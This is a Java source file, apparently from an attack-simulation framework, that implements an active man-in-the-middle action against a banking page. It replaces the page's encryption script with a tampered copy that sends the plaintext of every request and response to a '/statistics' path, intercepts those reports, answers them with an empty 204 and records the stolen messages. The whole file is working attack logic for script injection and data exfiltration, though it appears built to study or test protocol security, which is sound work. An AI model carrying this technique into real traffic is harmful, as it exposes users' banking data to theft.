package interlope.attack.action;

import interlope.attack.Action;
import interlope.attack.Aftermath;
import interlope.attack.Loot;
import interlope.attack.Stance;
import interlope.attack.mind.Mind;
import interlope.attack.mind.Seen;
import interlope.attack.mind.Step;
import interlope.event.Attempt;
import interlope.event.Failure;
import interlope.event.How;
import interlope.event.What;
import interlope.inner.PageScript;
import interlope.wire.Bytes;
import interlope.wire.Direction;
import interlope.wire.ExchangeId;
import interlope.wire.http.HttpMessage;
import interlope.wire.http.HttpReader;
import interlope.wire.http.HttpRequest;
import interlope.wire.http.HttpResponse;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;

/// Swaps the page's encryption script for one that does the same and also sends the plaintext of
/// every call and answer to the bank's address, where the attacker in the path takes it. Where no
/// script is served it only reads.
public final class ReplaceScript implements Action {
  private static final PageScript TELLING = PageScript.telling();
  private static final String PATH = "/statistics?";

  @Override
  public Set<Stance> goesWith() {
    return Set.of(Stance.ACTIVE);
  }

  @Override
  public Mind begin(Loot loot) {
    return new Swapping(loot.known().inner().pageScript().map(PageScript::path).orElse(null));
  }

  @Override
  public void afterwards(Aftermath after, Loot loot) {
    var script = loot.known().inner().pageScript().map(PageScript::path);
    var asked =
        after.read().stream()
            .filter(read ->
                read.outer() instanceof HttpRequest request
                    && script.equals(Optional.of(request.target())))
            .map(Aftermath.Overheard::exchange)
            .toList();
    boolean passed =
        after.read().stream()
            .anyMatch(read ->
                read.outer() instanceof HttpResponse answer
                    && answer.isSuccess()
                    && asked.contains(read.exchange()));
    after.tried(
        passed
            ? Attempt.worked(What.REPLACE_SCRIPT)
            : Attempt.failed(What.REPLACE_SCRIPT, Failure.NO_SCRIPT));
  }

  private static final class Swapping implements Mind {
    private final @Nullable String script;
    private final Set<ExchangeId> asked = new HashSet<>();

    /// @param script the path of the page's script, null where it has none
    Swapping(@Nullable String script) {
      this.script = script;
    }

    @Override
    public List<Step> on(Seen seen) {
      return switch (seen) {
        case Seen.Message(var id, _, HttpRequest request) -> onRequest(id, request);
        case Seen.Message(var id, _, HttpResponse answer) ->
            asked.remove(id) && answer.isSuccess()
                ? List.of(new Step.PassMessage(withTelling(answer)))
                : List.of(new Step.PassOn());
        case Seen.Passing _, Seen.Ended _ -> List.of(new Step.PassOn());
      };
    }

    private List<Step> onRequest(ExchangeId id, HttpRequest request) {
      if (request.target().startsWith(PATH)) {
        return Stream.concat(
                told(request).stream(), Stream.of(new Step.Answer(HttpResponse.empty(204))))
            .toList();
      }
      if (request.target().equals(script)) {
        asked.add(id);
      }
      return List.of(new Step.PassOn());
    }

    private static HttpResponse withTelling(HttpResponse answer) {
      return answer.withBody(Bytes.concat(answer.body(), TELLING.source()));
    }

    private static Optional<Step> told(HttpRequest request) {
      var whose =
          request.target().equals(PATH + "request") ? Direction.TO_SERVER : Direction.TO_CLIENT;
      List<HttpMessage> messages = new HttpReader(whose).feed(request.body());
      return messages.stream()
          .findFirst()
          .map(message -> new Step.Learn(whose, How.SCRIPT_SENT, message));
    }
  }
}
